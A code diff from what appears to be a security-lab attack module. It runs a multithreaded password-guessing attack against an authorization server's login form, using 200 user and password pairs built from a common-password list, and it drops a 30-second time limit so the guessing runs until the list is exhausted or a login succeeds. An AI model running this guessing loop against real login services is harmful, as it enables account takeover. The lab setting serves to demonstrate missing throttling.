@@ -7,13 +7,13 @@ parallel. A password is confirmed when the AS moves on to the second factor, or 
 in outright. Nothing in FAPI 2.0 limits guessing (AM §6 leaves user authentication out;
 RTS Art. 4 and NIST SP 800-63B §5.2.2 ask for throttling).
 
-Bounded: at most the 200 pairs, WORKERS at a time, stopping at the first confirmed one.
+Bounded by count, never by time: at most the 200 pairs, WORKERS at a time, stopping at the
+first confirmed one, so a loaded machine takes longer but reaches the same verdict.
 """
 
 from __future__ import annotations
 
 import threading
-import time
 from concurrent.futures import ThreadPoolExecutor
 from typing import Any
 
@@ -26,7 +26,6 @@ from lab.domain.customers import DEMO_USERS
 WORKERS = 8
 LIST_SIZE = 200
 BOB_POSITION = 120              # 1-based, as the catalog counts
-BUDGET_SECONDS = 30.0
 _COMMON = ("123456", "password", "qwerty", "letmein", "dragon", "monkey", "sunshine",
            "iloveyou", "football", "welcome", "shadow", "master", "princess", "trustno1",
            "baseball", "superman", "starwars", "whatever", "freedom", "hello")
@@ -55,7 +54,6 @@ def run(ctx: AttackContext) -> None:
     stop = threading.Event()
     tried = 0
     lock = threading.Lock()
-    deadline = time.monotonic() + BUDGET_SECONDS
     queue = iter(enumerate(pairs, start=1))
 
     def worker() -> None:
@@ -63,7 +61,7 @@ def run(ctx: AttackContext) -> None:
         http = ls.attacker_session(ctx)
         page = ls.own_login_page(ctx, http, meta=meta, quiet=True)
         form = ls.login_form(page)
-        while not stop.is_set() and time.monotonic() < deadline and form is not None:
+        while not stop.is_set() and form is not None:
             with lock:
                 item = next(queue, None)
             if item is None:
